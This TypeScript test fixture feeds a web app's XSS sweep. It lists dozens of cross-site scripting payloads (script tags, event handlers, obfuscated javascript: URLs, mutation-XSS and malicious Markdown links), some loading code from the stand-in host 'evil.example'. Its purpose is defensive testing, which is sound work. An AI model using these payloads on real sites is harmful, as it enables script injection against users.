// The XSS sweep's payloads: classic script injection, event handlers, dangerous URL schemes (plain and
// obfuscated with entities, tabs and case), raw HTML and links in Markdown, attribute and element breakouts,
// and mutation-XSS shapes that turn harmless on one parse and hostile on the next. Shared by the server
// sweep (xss.test.ts) and the browser one (tests/e2e/xss.spec.ts): no test framework imports here.
// Each one that could run calls alert(), and each one that could load something loads it from
// EVIL_HOST: the browser sweep fails on a dialog or on a request to that host.

export const EVIL_HOST = 'evil.example'

export const XSS_PAYLOADS: readonly string[] = [
  // Script elements
  '<script>alert(1)</script>',
  `<SCRIPT SRC=//${EVIL_HOST}/x.js></SCRIPT>`,
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><script>alert(1)</script></svg>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<svg onload=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<div onmouseover="alert(1)">x</div>',
  // Frames, plugins, forms, the document's base
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  `<base href="//${EVIL_HOST}/">`,
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  // Dangerous schemes in HTML, plain and obfuscated
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">klik</a>',
  '<a href=" &#14; javascript:alert(1)">klik</a>',
  '<a href="vbscript:msgbox(1)">klik</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
  // Styles
  `<style>@import "//${EVIL_HOST}/x.css";</style>`,
  '<div style="background:url(javascript:alert(1))">x</div>',
  // Breaking out of an attribute, a text element or a comment
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  // Mutation XSS: harmless as parsed, hostile once serialized and parsed again
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  // Markdown links and images
  '[klik](javascript:alert(1))',
  '[klik](JaVaScRiPt:alert(1))',
  '[klik](jav&#x09;ascript:alert(1))',
  '[klik](&#106;avascript:alert(1))',
  '[klik](javascript&#58;alert(1))',
  '[klik](<javascript:alert(1)>)',
  '[klik](vbscript:msgbox(1))',
  '[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[klik][kwaad]\n\n[kwaad]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[klik](https://example.org "titel\\" onmouseover=\\"alert(1)")',
  '![foto](javascript:alert(1))',
  '![foto](data:image/svg+xml,<svg onload=alert(1)>)',
  '![foto" onerror="alert(1)](images/verhaal-buurtloket.svg)',
  // Not HTML at all, but injections in other places text could end up
  'javascript:alert(1)',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
]

/** Text in which a payload hides inside a sentence, as in a real note or story. */
export function inSentence(payload: string): string {
  return `Voor ${payload} na`
}
